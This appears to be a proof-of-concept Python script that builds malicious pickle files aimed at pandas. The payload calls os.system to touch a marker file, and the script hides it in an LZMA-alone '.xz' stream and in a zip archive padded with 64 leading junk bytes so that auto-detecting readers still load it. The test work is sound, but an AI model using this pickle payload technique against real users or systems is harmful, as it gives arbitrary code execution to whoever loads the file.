import os, io, lzma, zipfile, pickle, shutil
base = "/tmp/r36c/out/pandas"; shutil.rmtree(base, True); os.makedirs(base)
def payload(tag):
    return b"cposix\nsystem\n(S'touch /tmp/r36c/PWNED_" + tag.encode() + b"'\ntR."
# 1: .xz holding LZMA-alone with props byte 0x00 (lc=0 lp=0 pb=0): lzma.LZMAFile FORMAT_AUTO reads it
filt = [{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 0, "pb": 0, "dict_size": 1 << 20}]
data = lzma.compress(payload("xz_alone_props0"), format=lzma.FORMAT_ALONE, filters=filt)
print("alone head", data[:5].hex())
open(f"{base}/xz_alone_props0.pkl.xz", "wb").write(data)
# 2: .zip with junk before the archive (Python's zipfile finds the end record; pandas reads the sole member)
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("payload.bin", payload("zip_prefix"))
open(f"{base}/zip_prefix.pkl.zip", "wb").write(b"\x00" * 64 + buf.getvalue())
